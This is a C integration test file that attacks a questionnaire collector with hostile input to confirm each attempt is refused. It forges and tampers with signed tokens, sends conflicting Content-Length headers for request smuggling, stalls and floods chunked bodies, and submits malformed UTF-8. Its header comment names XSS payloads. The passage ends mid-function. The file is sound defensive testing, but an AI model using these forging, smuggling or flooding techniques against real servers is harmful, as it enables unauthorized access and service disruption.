/* it_hostile.c - hostile input against the real collector.  Extends it_api.c
 * (which covers the plain bad-token, 422 and 413 cases) with what an
 * attacker would actually try:
 *   - tokens: random signatures, truncation at every kind of boundary,
 *     re-signed with another key under the issuer's kid, footer tampering,
 *     bad claims, expired / not yet valid / revoked / wrong audience on the
 *     API, the personal link and the browser session; a token replayed on
 *     another questionnaire; a receipt replayed as a token;
 *   - bodies: lying Content-Length (claims small and sends more; claims big,
 *     sends less and stalls), chunked without end (stalled and endless),
 *     Content-Length headers that disagree (refused: request smuggling);
 *   - encodings: invalid UTF-8, overlongs, surrogates, NUL (raw and \u0000)
 *     in JSON and in urlencoded posts;
 *   - JSON: 10,000 levels deep, duplicate keys, huge numbers, wrong types for
 *     each question type;
 *   - output: <script>, "><img onerror>, U+202E in free text, entity and
 *     attributes shown escaped and inert on the form, the receipt, the chair
 *     view and in `tally report`; CSV formula injection in `tally export`;
 *   - URLs: traversal, encoded dots and NUL, //, long URLs, odd methods,
 *     malformed request lines, oversized header blocks: 400/404/405/414/431,
 *     never 200 or 500;
 *   - slowloris: 50 sockets trickling headers while a normal client is
 *     still served.
 * Every rejected request is checked to leave the database exactly as it was
 * (fingerprint of every table, revision count and the latest revision).
 * Asserts behaviour, never time: the waits below are upper bounds. */
#include "harness.h"

#include <check.h>
#include <sodium.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define QID "all-types"
#define API "/api/v1/questionnaires/" QID
#define API2 "/api/v1/questionnaires/pseudo-form"
#define OK_BODY "{\"answers\":{\"colour\":\"red\",\"proposal\":{\"position\":\"support\"}}}"
/* a string literal and its length, for bodies holding NUL bytes */
#define LIT(s) s, sizeof(s) - 1
#define IDLE_TIMEOUT "3" /* the server's --timeout for these tests, seconds */

static struct h_env E;
static struct h_client *C;

static void up(void)
{
	const char *forms[] = {"all-types.json", "pseudonymous.json", NULL};
	const char *extra[] = {"--timeout", IDLE_TIMEOUT, NULL};
	h_up(&E, &C, forms, extra);
}

static void down(void)
{
	h_down(&E, &C);
}

/* ------------------------------------------------------------ helpers */

/* What "the database is unchanged" compares: a fingerprint of every table,
 * plus, readable in failure messages, the revision count and the latest
 * revision's sequence number and chain link. */
struct dbsnap {
	char *state;
	char latest[160];
};

static void latest_of(struct h_env *e, char *out, size_t n)
{
	sqlite3 *db = NULL;
	sqlite3_stmt *st = NULL;
	ck_assert(sqlite3_open_v2(e->db, &db, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK);
	sqlite3_busy_timeout(db, 5000);
	ck_assert(sqlite3_prepare_v2(db,
	                             "SELECT count(*), coalesce(max(seq), 0), "
	                             "coalesce((SELECT link FROM revision ORDER BY seq DESC LIMIT 1), '-') "
	                             "FROM revision",
	                             -1, &st, NULL) == SQLITE_OK);
	ck_assert(sqlite3_step(st) == SQLITE_ROW);
	snprintf(out, n, "revisions=%lld latest_seq=%lld link=%s", sqlite3_column_int64(st, 0),
	         sqlite3_column_int64(st, 1), (const char *)sqlite3_column_text(st, 2));
	sqlite3_finalize(st);
	sqlite3_close(db);
}

static void snap_take(struct dbsnap *s)
{
	s->state = h_db_state(&E);
	latest_of(&E, s->latest, sizeof s->latest);
}

static void snap_same(struct dbsnap *s, const char *what)
{
	char now[160];
	char *state = h_db_state(&E);
	latest_of(&E, now, sizeof now);
	ck_assert_msg(strcmp(s->latest, now) == 0, "%s: revisions changed: %s -> %s", what,
	              s->latest, now);
	ck_assert_msg(strcmp(s->state, state) == 0, "%s: the database changed", what);
	free(state);
	free(s->state);
	s->state = NULL;
}

/* An API error of the documented shape, with code and a message holding
 * msg_part (either may be NULL). */
static void assert_api_error(const struct h_resp *r, long status, const char *code,
                             const char *msg_part, const char *what)
{
	cJSON *j, *err, *c, *m;
	ck_assert_msg(r->status == status, "%s: status %ld, wanted %ld: %.300s", what, r->status,
	              status, r->body);
	j = cJSON_Parse(r->body);
	ck_assert_msg(j != NULL, "%s: not JSON: %.300s", what, r->body);
	err = cJSON_GetObjectItemCaseSensitive(j, "error");
	c = cJSON_GetObjectItemCaseSensitive(err, "code");
	m = cJSON_GetObjectItemCaseSensitive(err, "message");
	ck_assert_msg(cJSON_IsString(c) && cJSON_IsString(m), "%s: %.300s", what, r->body);
	if (code)
		ck_assert_msg(strcmp(c->valuestring, code) == 0, "%s: code %s, wanted %s", what,
		              c->valuestring, code);
	if (msg_part)
		ck_assert_msg(strstr(m->valuestring, msg_part) != NULL,
		              "%s: message '%s' lacks '%s'", what, m->valuestring, msg_part);
	cJSON_Delete(j);
}

static char *bearer(const char *tok)
{
	size_t n = strlen(tok) + 32;
	char *h = malloc(n);
	ck_assert_ptr_nonnull(h);
	snprintf(h, n, "Authorization: Bearer %s", tok);
	return h;
}

/* POSTs body (len bytes, may hold NUL) as JSON with tok; asserts the error
 * and that nothing changed. */
static void api_rejects(const char *path, const char *tok, const char *body, size_t len,
                        long status, const char *code, const char *msg_part, const char *what)
{
	struct dbsnap s;
	struct h_resp r;
	char *auth = tok ? bearer(tok) : NULL;
	const char *hs[2] = {auth, NULL};
	snap_take(&s);
	h_request(C, "POST", path, "application/json", body, len, 0, hs, &r);
	assert_api_error(&r, status, code, msg_part, what);
	h_resp_free(&r);
	snap_same(&s, what);
	free(auth);
}

static void api_rejects_str(const char *tok, const char *body, long status, const char *code,
                            const char *msg_part, const char *what)
{
	api_rejects(API "/responses", tok, body, strlen(body), status, code, msg_part, what);
}

/* A token that the collector refuses: on the API (POST and GET me), and
 * as a personal link (a 401 page in plain words). */
static void token_refused(const char *tok, const char *code, const char *api_msg,
                          const char *page_msg, const char *what)
{
	struct h_resp r;
	struct dbsnap s;
	size_t n = strlen(tok) + 8;
	char *path = malloc(n), *auth = bearer(tok);
	const char *hs[2] = {auth, NULL};

	api_rejects_str(tok, OK_BODY, 401, code, api_msg, what);
	snap_take(&s);
	h_request(C, "GET", API "/responses/me", NULL, NULL, 0, 0, hs, &r);
	assert_api_error(&r, 401, code, api_msg, what);
	h_resp_free(&r);
	snprintf(path, n, "/t/%s", tok);
	h_get(C, path, &r);
	ck_assert_msg(r.status == 401, "%s: link answered %ld", what, r.status);
	ck_assert_msg(strstr(r.body, page_msg) != NULL, "%s: the 401 page lacks '%s'", what,
	              page_msg);
	ck_assert_msg(h_header(&r, "Set-Cookie") == NULL, "%s: a refused link set a cookie", what);
	h_resp_free(&r);
	snap_same(&s, what);
	free(path);
	free(auth);
}

static char *claims_for(const char *aud, const char *sub, const char *role, int64_t nbf,
                        int64_t exp)
{
	return h_claims(&E, aud, sub, role, "Ghana", NULL, nbf, exp, NULL);
}

/* Splits "v4.public.BODY[.FOOTER]" into decoded body (message||sig). */
static uint8_t *token_body(const char *tok, size_t *n, const char **footer_dot)
{
	const char *b = tok + 10, *dot = strchr(b, '.');
	uint8_t *out = NULL;
	ck_assert(strncmp(tok, "v4.public.", 10) == 0);
	ck_assert(snd_b64url_decode(b, dot ? (size_t)(dot - b) : strlen(b), &out, n) == SND_OK);
	*footer_dot = dot;
	return out;
}

static char *token_join(const uint8_t *body, size_t n, const char *footer_dot)
{
	char *b64 = snd_b64url_encode(body, n), *t;
	size_t len = strlen(b64) + (footer_dot ? strlen(footer_dot) : 0) + 16;
	t = malloc(len);
	ck_assert_ptr_nonnull(t);
	snprintf(t, len, "v4.public.%s%s", b64, footer_dot ? footer_dot : "");
	free(b64);
	return t;
}

/* ------------------------------------------------------------- tokens */

START_TEST(test_hostile_token_with_random_signature_is_401)
{
	char *c = claims_for(QID, "d1", "delegate", -60, 3600), *tok = h_sign(&E, c), *forged;
	const char *footer;
	size_t n;
	uint8_t *body = token_body(tok, &n, &footer);
	ck_assert(n > 64);
	randombytes_buf(body + n - 64, 64); /* the signature: 64 random bytes */
	forged = token_join(body, n, footer);
	token_refused(forged, "token_invalid", "signature does not verify",
	              "This link has been altered", "random signature");
	/* and an all-zero signature */
	memset(body + n - 64, 0, 64);
	free(forged);
	forged = token_join(body, n, footer);
	token_refused(forged, "token_invalid", "signature does not verify",
	              "This link has been altered", "zero signature");
	/* the claims of a genuine token, altered, keeping its signature */
	free(forged);
	free(body);
	body = token_body(tok, &n, &footer);
	body[8] ^= 0x20;
	forged = token_join(body, n, footer);
	token_refused(forged, "token_invalid", "signature does not verify",
	              "This link has been altered", "altered claims");
	free(forged);
	free(body);
	free(tok);
	free(c);
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
}
END_TEST

START_TEST(test_hostile_truncated_tokens_are_401)
{
	char *c = claims_for(QID, "d1", "delegate", -60, 3600), *tok = h_sign(&E, c);
	const char *dot = strrchr(tok, '.');
	size_t len = strlen(tok), cuts[] = {1, 2, 3, 10, 43, 64, 65}, i;
	char t[SND_TOKEN_MAX_LEN];

	/* cut the signature short by k characters (still valid base64url for
	 * some k, so both "malformed" and "does not verify" are right answers) */
	for (i = 0; i < sizeof cuts / sizeof cuts[0]; i++) {
		struct h_resp r;
		struct dbsnap s;
		char *auth, what[64];
		const char *hs[2];
		size_t k = cuts[i];
		/* cut inside the body (before the footer) */
		size_t body_end = (size_t)(dot - tok);
		ck_assert(body_end > k + 10);
		memcpy(t, tok, body_end - k);
		memcpy(t + body_end - k, dot, len - body_end + 1);
		snprintf(what, sizeof what, "body cut by %zu", k);
		auth = bearer(t);
		hs[0] = auth;
		hs[1] = NULL;
		snap_take(&s);
		h_request(C, "POST", API "/responses", "application/json", OK_BODY, strlen(OK_BODY), 0,
		          hs, &r);
		assert_api_error(&r, 401, "token_invalid", NULL, what);
		ck_assert_msg(strstr(r.body, "malformed") || strstr(r.body, "does not verify"),
		              "%s: %s", what, r.body);
		h_resp_free(&r);
		snap_same(&s, what);
		free(auth);
	}
	/* the whole footer gone, the header only, half a token */
	snprintf(t, sizeof t, "%.*s", (int)(dot - tok), tok);
	token_refused(t, "token_invalid", "signature does not verify", "This link has been altered",
	              "footer cut off");
	token_refused("v4.public.", "token_invalid", "malformed", "It may have been cut short",
	              "header only");
	token_refused("v4.public", "token_invalid", "malformed", "It may have been cut short",
	              "header without dot");
	snprintf(t, sizeof t, "%.*s", (int)(len / 2), tok);
	api_rejects_str(t, OK_BODY, 401, "token_invalid", NULL, "half a token");
	free(tok);
	free(c);
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
}
END_TEST

START_TEST(test_hostile_token_resigned_with_another_key_under_our_kid_is_401)
{
	uint8_t fpk[SND_PK_BYTES], fsk[SND_SK_BYTES];
	char footer[128], *c, *tok = NULL;
	ck_assert(snd_keypair(fpk, fsk) == SND_OK);
	/* A forger who copies our key id into the footer gains nothing: the key
	 * comes from the server's configuration, never from the token. */
	snprintf(footer, sizeof footer, "{\"kid\":\"%s\"}", E.kid);
	c = claims_for(QID, "d1", "delegate", -60, 3600);
	ck_assert(snd_paseto_sign(fsk, c, strlen(c), footer, NULL, &tok) == SND_OK);
	token_refused(tok, "token_invalid", "signature does not verify",
	              "This link has been altered", "forger key, our kid");
	free(tok);
	/* and a receipt (signed with the receipt key, also v4.public) used as a token */
	{
		struct h_resp r;
		cJSON *j;
		char *good = h_token(&E, QID, "d1", "delegate");
		ck_assert_int_eq(h_post_json(C, API "/responses", good, OK_BODY, &r), 201);
		j = h_json(r.body);
		tok = strdup(cJSON_GetObjectItemCaseSensitive(j, "receipt")->valuestring);
		cJSON_Delete(j);
		h_resp_free(&r);
		token_refused(tok, "token_invalid", "signature does not verify",
		              "This link has been altered", "receipt replayed as a token");
		free(tok);
		free(good);
	}
	free(c);
	ck_assert_int_eq(h_db_count(&E, "revision"), 1);
}
END_TEST

START_TEST(test_hostile_footer_tampering_is_401)
{
	char *c = claims_for(QID, "d1", "delegate", -60, 3600), *tok = h_sign(&E, c), *t, *f;
	const char *dot = strrchr(tok, '.');
	size_t n = (size_t)(dot - tok), len;
	char other[128];

	/* another kid: the footer is signed (PAE), so any change breaks it */
	snprintf(other, sizeof other, "{\"kid\":\"k4.pid.%043d\"}", 0);
	f = snd_b64url_encode((const uint8_t *)other, strlen(other));
	len = n + strlen(f) + 2;
	t = malloc(len);
	snprintf(t, len, "%.*s.%s", (int)n, tok, f);
	token_refused(t, "token_invalid", "signature does not verify", "This link has been altered",
	              "footer with another kid");
	free(t);
	free(f);
	/* a footer added to ... a footer-less signature */
	t = NULL;
	{
		char *bare = NULL;
		ck_assert(snd_paseto_sign(E.issuer_sk, c, strlen(c), NULL, NULL, &bare) == SND_OK);
		f = snd_b64url_encode((const uint8_t *)other, strlen(other));
		len = strlen(bare) + strlen(f) + 2;
		t = malloc(len);
		snprintf(t, len, "%s.%s", bare, f);
		token_refused(t, "token_invalid", "signature does not verify",
		              "This link has been altered", "footer added");
		free(bare);
		free(f);
		free(t);
	}
	/* a footer that is not base64url, and an empty one */
	len = n + 16;
	t = malloc(len);
	snprintf(t, len, "%.*s.!!!", (int)n, tok);
	token_refused(t, "token_invalid", "malformed", "It may have been cut short",
	              "footer not base64url");
	snprintf(t, len, "%.*s.", (int)n, tok);
	api_rejects_str(t, OK_BODY, 401, "token_invalid", NULL, "empty footer");
	/* a fifth part */
	free(t);
	len = strlen(tok) + 8;
	t = malloc(len);
	snprintf(t, len, "%s.AAAA", tok);
	api_rejects_str(t, OK_BODY, 401, "token_invalid", NULL, "a fifth part");
	/* other versions and purposes */
	memcpy(t, "v4.local.", 9);
	snprintf(t, len, "v4.local.%s", tok + 10);
	token_refused(t, "token_invalid", "malformed", "It may have been cut short", "v4.local");
	snprintf(t, len, "v3.public.%s", tok + 10);
	token_refused(t, "token_invalid", "malformed", "It may have been cut short", "v3.public");
	free(t);
	free(tok);
	free(c);
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
}
END_TEST

START_TEST(test_hostile_signed_tokens_with_bad_claims_are_401)
{
	static const char *const bad[] = {
		"{\"aud\":\"all-types\",\"jti\":\"j1\",\"role\":\"delegate\",\"ent\":\"X\"}", /* no sub */
		"{\"aud\":\"all-types\",\"sub\":\"d1\",\"jti\":\"j1\",\"role\":\"admin\",\"ent\":\"X\"}",
		"{\"aud\":7,\"sub\":\"d1\",\"jti\":\"j1\",\"role\":\"delegate\",\"ent\":\"X\"}",
		"{\"aud\":\"all-types\",\"sub\":\"d1\",\"jti\":\"j1\",\"role\":\"delegate\",\"ent\":\"X\","
		"\"exp\":\"tomorrow\"}",
		"{\"aud\":\"all-types\",\"sub\":\"d1\",\"jti\":\"j1\",\"role\":\"delegate\",\"ent\":\"X\","
		"\"attrs\":{\"region\":5}}",
		"{\"aud\":\"all-types\",\"sub\":\"d1\",\"sub\":\"d2\",\"jti\":\"j1\",\"role\":\"delegate\","
		"\"ent\":\"X\"}",
		"[\"aud\",\"all-types\"]",
		"not json at all",
	};
	size_t i;
	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		char *tok = h_sign(&E, bad[i]), what[32];
		snprintf(what, sizeof what, "bad claims %zu", i);
		token_refused(tok, "token_invalid", "claims are invalid", "This link is incomplete",
		              what);
		free(tok);
	}
	/* a token over the length cap, validly signed */
	{
		char *big = malloc(3501), *c, *tok; /* a token of ~4.9 KB: over the collector's 4 KiB */
		memset(big, 'a', 3500);
		big[3500] = '\0';
		c = h_claims(&E, QID, big, "delegate", "X", NULL, -60, 3600, NULL);
		tok = h_sign(&E, c);
		api_rejects_str(tok, OK_BODY, 401, "token_invalid", "malformed", "huge token");
		free(tok);
		free(c);
		free(big);
	}
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
}
END_TEST

START_TEST(test_hostile_expired_not_yet_valid_revoked_tokens_everywhere)
{
	char *c, *tok;
	struct h_resp r;
	struct dbsnap s;

	c = claims_for(QID, "d1", "delegate", -7200, -120); /* past the 60 s skew */
	tok = h_sign(&E, c);
	token_refused(tok, "token_expired", "expired", "This link has expired", "expired");
	free(tok);
	free(c);
	c = claims_for(QID, "d1", "delegate", 600, 7200);
	tok = h_sign(&E, c);
	token_refused(tok, "token_not_yet_valid", "not valid yet", "This link is not valid yet",
	              "not yet valid");
	free(tok);
	free(c);

	/* revoked while a browser session holds it: the cookie stops too */
	c = h_claims(&E, QID, "d9", "delegate", "Ghana", "jti-revoked-9", -60, 3600, NULL);
	tok = h_sign(&E, c);
	{
		size_t n = strlen(tok) + 8;
		char *path = malloc(n);
		const char *argv[] = {h_collector(), "revoke", "--db", E.db, "--jti", "jti-revoked-9",
		                      NULL};
		snprintf(path, n, "/t/%s", tok);
		ck_assert_int_eq(h_get(C, path, &r), 303);
		h_resp_free(&r);
		ck_assert_int_eq(h_get(C, "/q/" QID, &r), 200);
		h_resp_free(&r);
		ck_assert_int_eq(h_run(argv, NULL), 0);
		snap_take(&s);
		h_get(C, "/q/" QID, &r);
		ck_assert_int_eq(r.status, 401);
		ck_assert(strstr(r.body, "This link has been withdrawn") != NULL);
		h_resp_free(&r);
		h_request(C, "POST", "/q/" QID, "application/x-www-form-urlencoded", "colour=red", 10, 0,
		          NULL, &r);
		ck_assert_int_eq(r.status, 401);
		h_resp_free(&r);
		snap_same(&s, "revoked session");
		token_refused(tok, "token_revoked", "revoked", "This link has been withdrawn",
		              "revoked");
		free(path);
	}
	free(tok);
	free(c);

	/* a revoked chair token loses the summary and the dashboard */
	c = h_claims(&E, QID, "chair9", "chair", "Secretariat", "jti-chair-9", -60, 3600, NULL);
	tok = h_sign(&E, c);
	ck_assert_int_eq(h_get_bearer(C, API "/summary", tok, &r), 200);
	h_resp_free(&r);
	{
		const char *argv[] = {h_collector(), "revoke", "--db", E.db, "--jti", "jti-chair-9",
		                      NULL};
		ck_assert_int_eq(h_run(argv, NULL), 0);
	}
	h_get_bearer(C, API "/summary", tok, &r);
	assert_api_error(&r, 401, "token_revoked", "revoked", "revoked chair summary");
	h_resp_free(&r);
	h_get_bearer(C, "/chair/" QID, tok, &r);
	ck_assert_int_eq(r.status, 401);
	h_resp_free(&r);
	free(tok);
	free(c);
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
}
END_TEST

START_TEST(test_hostile_token_replayed_on_another_questionnaire_is_401)
{
	char *tok = h_token(&E, QID, "d1", "delegate");
	char *chair = h_token(&E, QID, "chair1", "chair");
	char *path, *csrf, *body;
	const char *p;
	struct h_resp r;
	struct dbsnap s;
	size_t n;

	/* the token works where it belongs... */
	ck_assert_int_eq(h_post_json(C, API "/responses", tok, OK_BODY, &r), 201);
	h_resp_free(&r);
	/* ...and nowhere else, on any path */
	api_rejects(API2 "/responses", tok, "{\"answers\":{\"proposal\":{\"position\":\"support\"}}}",
	            strlen("{\"answers\":{\"proposal\":{\"position\":\"support\"}}}"), 401,
	            "token_wrong_questionnaire", "another questionnaire", "API replay");
	h_get_bearer(C, API2 "/responses/me", tok, &r);
	assert_api_error(&r, 401, "token_wrong_questionnaire", NULL, "me replay");
	h_resp_free(&r);
	h_get_bearer(C, API2 "/summary", chair, &r);
	assert_api_error(&r, 401, "token_wrong_questionnaire", NULL, "chair replay");
	h_resp_free(&r);
	h_get_bearer(C, "/chair/pseudo-form", chair, &r);
	ck_assert_int_eq(r.status, 401);
	h_resp_free(&r);

	/* a browser session for one questionnaire posting to the other, even
	 * with a valid CSRF field of the first */
	n = strlen(tok) + 8;
	path = malloc(n);
	snprintf(path, n, "/t/%s", tok);
	ck_assert_int_eq(h_get(C, path, &r), 303);
	h_resp_free(&r);
	ck_assert_int_eq(h_get(C, "/q/" QID, &r), 200);
	p = strstr(r.body, "name=\"_csrf\" value=\"");
	ck_assert_ptr_nonnull(p);
	csrf = strndup(p + strlen("name=\"_csrf\" value=\""), 32);
	h_resp_free(&r);
	snap_take(&s);
	h_get(C, "/q/pseudo-form", &r);
	ck_assert_int_eq(r.status, 401);
	ck_assert(strstr(r.body, "Your session is for another questionnaire") != NULL);
	h_resp_free(&r);
	n = 128;
	body = malloc(n);
	snprintf(body, n, "_csrf=%s&proposal=support", csrf);
	h_request(C, "POST", "/q/pseudo-form", "application/x-www-form-urlencoded", body,
	          strlen(body), 0, NULL, &r);
	ck_assert_int_eq(r.status, 401);
	h_resp_free(&r);
	h_get(C, "/q/pseudo-form/receipt", &r);
	ck_assert_int_eq(r.status, 401);
	h_resp_free(&r);
	snap_same(&s, "session replay");
	ck_assert_int_eq(h_db_count(&E, "revision"), 1);
	free(body);
	free(csrf);
	free(path);
	free(chair);
	free(tok);
}
END_TEST

/* -------------------------------------------------------------- bodies */

static char *raw_post_head(const char *path, const char *tok, const char *ctype,
                           const char *length_headers)
{
	struct snd_buf b;
	snd_buf_init(&b, 0);
	snd_buf_printf(&b, "POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\n", path);
	if (tok)
		snd_buf_printf(&b, "Authorization: Bearer %s\r\n", tok);
	snd_buf_printf(&b, "Content-Type: %s\r\n%s\r\n", ctype, length_headers);
	ck_assert(!b.failed);
	return snd_buf_steal(&b, NULL);
}

START_TEST(test_hostile_content_length_smaller_than_the_body_is_400)
{
	char *tok = h_token(&E, QID, "d1", "delegate");
	char *head = raw_post_head(API "/responses", tok, "application/json", "Content-Length: 20\r\n");
	struct dbsnap s;
	struct h_resp r;
	long st;
	int fd;

	snap_take(&s);
	fd = h_raw_connect(&E);
	ck_assert_int_eq(h_raw_send(fd, head, strlen(head)), 0);
	h_raw_send(fd, OK_BODY, strlen(OK_BODY)); /* 20 announced, ~70 sent */
	st = h_raw_response(fd, 15000, &r);
	ck_assert_msg(st == 400, "claims small: %ld %s", st, r.body);
	ck_assert(strstr(r.body, "\"code\":\"bad_request\"") != NULL);
	ck_assert(strstr(r.body, "malformed JSON") != NULL);
	h_resp_free(&r);
	/* the rest is not a request: refused or dropped, never a success */
	st = h_raw_response(fd, 15000, &r);
	ck_assert_msg(st <= 0 || st == 400, "leftover bytes: %ld", st);
	h_resp_free(&r);
	close(fd);
	snap_same(&s, "content-length too small");
	free(head);
	free(tok);
}
END_TEST

/* Stalled senders (a body shorter than announced, a chunked body without its
 * last chunk) are cut off by the idle timeout, while others are served. */
START_TEST(test_hostile_stalled_bodies_time_out_and_others_are_served)
{
	char *tok = h_token(&E, QID, "d1", "delegate");
	char *tok2 = h_token(&E, QID, "d2", "delegate");
	char *h1 = raw_post_head(API "/responses", tok, "application/json",
	                         "Content-Length: 60000\r\n");
	char *h2 = raw_post_head(API "/responses", tok, "application/json",
	                         "Transfer-Encoding: chunked\r\n");
	char *h3 = raw_post_head("/q/" QID, NULL, "application/x-www-form-urlencoded",
	                         "Transfer-Encoding: chunked\r\n");
	static const char chunk[] = "10\r\n{\"answers\":{\"co\r\n";
	struct dbsnap s;
	struct h_resp r;
	int a, b, c;
	char *log = NULL;

	snap_take(&s);
	a = h_raw_connect(&E);
	b = h_raw_connect(&E);
	c = h_raw_connect(&E);
	ck_assert_int_eq(h_raw_send(a, h1, strlen(h1)), 0);
	ck_assert_int_eq(h_raw_send(a, OK_BODY, 30), 0); /* 30 of 60000 */
	ck_assert_int_eq(h_raw_send(b, h2, strlen(h2)), 0);
	ck_assert_int_eq(h_raw_send(b, chunk, strlen(chunk)), 0); /* never the 0 chunk */
	ck_assert_int_eq(h_raw_send(c, h3, strlen(h3)), 0);
	ck_assert_int_eq(h_raw_send(c, "5\r\ncolou\r\n", 10), 0);

	/* meanwhile others are served, reads and writes */
	ck_assert_int_eq(h_get(C, "/healthz", &r), 200);
	h_resp_free(&r);
	ck_assert_int_eq(h_post_json(C, API "/responses", tok2, OK_BODY, &r), 201);
	h_resp_free(&r);
	free(s.state);
	snap_take(&s); /* from here on, the stalled requests must change nothing */

	/* the server hangs up on each within its idle timeout (3 s; 20 s allowed) */
	ck_assert_msg(h_raw_closed(a, 20000), "a body shorter than its Content-Length held on");
	ck_assert_msg(h_raw_closed(b, 20000), "a chunked body without end held on");
	ck_assert_msg(h_raw_closed(c, 20000), "a chunked form post without end held on");
	close(a);
	close(b);
	close(c);
	snap_same(&s, "stalled bodies");
	ck_assert_int_eq(h_get(C, "/healthz", &r), 200);
	h_resp_free(&r);
	/* and the log says why */
	ck_assert(snd_read_file(E.log, (size_t)16 << 20, &log, NULL) == SND_OK);
	ck_assert_msg(strstr(log, "timeout") != NULL, "no timeout in the log:\n%s", log);
	free(log);
	free(h1);
	free(h2);
	free(h3);
	free(tok);
	free(tok2);
}
END_TEST

START_TEST(test_hostile_endless_chunked_body_is_cut_off)
{
	char *tok = h_token(&E, QID, "d1", "delegate");
	char *head = raw_post_head(API "/responses", tok, "application/json",
	                           "Transfer-Encoding: chunked\r\n");
	size_t chunk_len = 65536, sent = 0, limit = (size_t)64 << 20;
	char *chunk = malloc(chunk_len + 32);
	struct dbsnap s;
	struct h_resp r;
	int fd, n;

	n = snprintf(chunk, 32, "%zx\r\n", chunk_len);
	memset(chunk + n, 'x', chunk_len);
	memcpy(chunk + n + chunk_len, "\r\n", 2);
	snap_take(&s);
	fd = h_raw_connect(&E);
	ck_assert_int_eq(h_raw_send(fd, head, strlen(head)), 0);
	/* The server reads and drops past the cap (to answer 413 on a kept-alive
	 * connection) but only so far: then it closes. */
	while (sent < limit && h_raw_send(fd, chunk, (size_t)n + chunk_len + 2) == 0)
		sent += chunk_len;
	ck_assert_msg(sent < limit, "the server read %zu bytes of an endless body", sent);
	close(fd);
	snap_same(&s, "endless chunked");
	ck_assert_int_eq(h_get(C, "/healthz", &r), 200);
	h_resp_free(&r);
	free(chunk);
	free(head);
	free(tok);
}
END_TEST

START_TEST(test_hostile_contradictory_or_bad_length_headers_store_nothing)
{
	char *tok = h_token(&E, QID, "d1", "delegate");
	/* Two Content-Length values that disagree let a proxy and the server cut
	 * the stream in different places (request smuggling, RFC 9112 6.3): the
	 * server must refuse them whatever their order, not pick one. */
	char dup1[80], dup2[80];
	const char *lengths[] = {
		dup1, dup2,
		"Content-Length: 62\r\nTransfer-Encoding: chunked\r\n",
		"Content-Length: -1\r\n",
		"Content-Length: 1e2\r\n",
		"Content-Length: 18446744073709551617\r\n",
		"Content-Length: 70000\r\n", /* over the cap: refused before reading */
		"Transfer-Encoding: chunked\r\n",  /* then a chunk size that overflows */
	};
	size_t i;
	snprintf(dup1, sizeof dup1, "Content-Length: 5\r\nContent-Length: %zu\r\n", strlen(OK_BODY));
	snprintf(dup2, sizeof dup2, "Content-Length: %zu\r\nContent-Length: 5\r\n", strlen(OK_BODY));
	for (i = 0; i < sizeof lengths / sizeof lengths[0]; i++) {
		char *head = raw_post_head(API "/responses", tok, "application/json", lengths[i]);
		struct dbsnap s;
		struct h_resp r;
		long st;
		int fd;
		snap_take(&s);
		fd = h_raw_connect(&E);
		ck_assert_int_eq(h_raw_send(fd, head, strlen(head)), 0);
		if (i == 7)
			h_raw_send(fd, "FFFFFFFFFFFFFFFFFFFF\r\nxx\r\n", 26);
		else
			h_raw_send(fd, OK_BODY, strlen(OK_BODY));
		st = h_raw_response(fd, 15000, &r);
		/* 400 or 413 with an answer, or a closed connection: never stored */
		ck_assert_msg(st == 400 || st == 413 || st <= 0, "case %zu: %ld %s", i, st, r.body);
		if (i == 6)
			ck_assert_msg(st == 413, "over the cap: %ld", st);
		if (i < 2)
			ck_assert_msg(st == 400, "Content-Length %s: %ld %s", i ? "62, 5" : "5, 62", st,
			              r.body);
		h_resp_free(&r);
		close(fd);
		snap_same(&s, lengths[i]);
		free(head);
	}
	free(tok);
}
END_TEST

/* ---------------------------------------------------------- encodings */

START_TEST(test_hostile_bad_encodings_in_json_are_400)
{
	static const struct {
		const char *body;
		size_t len; /* 0: strlen */
		const char *what;
	} cases[] = {
		{"{\"answers\":{\"comments\":\"\xe0\x80\xaf\"}}", 0, "overlong 3-byte /"},
		{"{\"answers\":{\"comments\":\"\xf0\x80\x80\xaf\"}}", 0, "overlong 4-byte /"},
		{"{\"answers\":{\"comments\":\"\xc1\xbf\"}}", 0, "overlong 2-byte"},
		{"{\"answers\":{\"comments\":\"\xed\xa0\x80\"}}", 0, "UTF-16 surrogate in UTF-8"},
		{"{\"answers\":{\"comments\":\"\xf4\x90\x80\x80\"}}", 0, "past U+10FFFF"},
		{"{\"answers\":{\"comments\":\"\xf8\x88\x80\x80\x80\"}}", 0, "5-byte sequence"},
		{"{\"answers\":{\"comments\":\"\xe2\x82\"}}", 0, "truncated sequence"},
		{"{\"answers\":{\"comments\":\"\x80\"}}", 0, "lone continuation byte"},
		{"{\"answers\":{\"comm\xffnts\":\"x\"}}", 0, "invalid UTF-8 in a key"},
		{LIT("{\"answers\":{\"comments\":\"a\0b\",\"colour\":\"red\"}}"), "raw NUL in a string"},
		{LIT("{\"answers\":{\"colour\":\"red\"}}\0"), "raw NUL after the document"},
		{"{\"answers\":{\"comments\":\"a\\u0000b\"}}", 0, "\\u0000 escape"},
		{"{\"answers\":{\"comm\\u0000ents\":\"x\"}}", 0, "\\u0000 in a key"},
		{"{\"answers\":{\"comments\":\"\\ud800\"}}", 0, "lone high surrogate escape"},
		{"{\"answers\":{\"comments\":\"\\udc00x\"}}", 0, "lone low surrogate escape"},
		{"{\"answers\":{\"comments\":\"\\x41\"}}", 0, "invalid escape"},
		{"{\"answers\":{\"comments\":\"tab\there\"}}", 0, "raw control character"},
	};
	char *tok = h_token(&E, QID, "d1", "delegate");
	size_t i;
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++)
		api_rejects(API "/responses", tok, cases[i].body,
		            cases[i].len ? cases[i].len : strlen(cases[i].body), 400, "bad_request",
		            "malformed JSON", cases[i].what);
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
	free(tok);
}
END_TEST

/* Opens a browser session; returns its CSRF value. */
static char *browser_session(const char *tok)
{
	struct h_resp r;
	size_t n = strlen(tok) + 8;
	char *path = malloc(n), *csrf;
	const char *p;
	snprintf(path, n, "/t/%s", tok);
	ck_assert_int_eq(h_get(C, path, &r), 303);
	h_resp_free(&r);
